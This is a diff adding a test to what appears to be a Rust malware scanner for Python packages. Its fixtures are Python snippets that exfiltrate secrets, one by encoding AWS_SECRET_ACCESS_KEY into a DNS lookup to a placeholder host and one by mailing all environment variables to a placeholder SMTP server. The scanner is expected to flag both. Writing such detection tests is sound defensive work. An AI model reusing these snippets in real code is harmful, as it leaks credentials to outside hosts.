@@ -611,6 +611,14 @@ mod tests {
     }
 
     #[test]
+    fn an_environment_variable_encoded_into_a_host_name_flows_to_the_lookup() {
+        let code = "import socket, os, base64\ndata = base64.b32encode(os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode()).decode()\nsocket.gethostbyname(data[:60] + '.x.example.invalid')\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH200") >= 0.6);
+        let home = "import socket, os\nh = os.environ.get('HOME', '').encode()\nsocket.gethostbyname('example.invalid')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", home, "WH200"), 0.0);
+    }
+
+    #[test]
     fn mail_and_ftp_sessions_are_network_sinks() {
         let mail = "import os, smtplib\nfrom email.message import EmailMessage\nm = EmailMessage()\nm.set_content(str(dict(os.environ)))\ns = smtplib.SMTP('smtp.example.invalid', 587)\ns.send_message(m)\n";
         assert!(max_severity("p/pkg/__init__.py", mail, "WH200") >= 0.6);
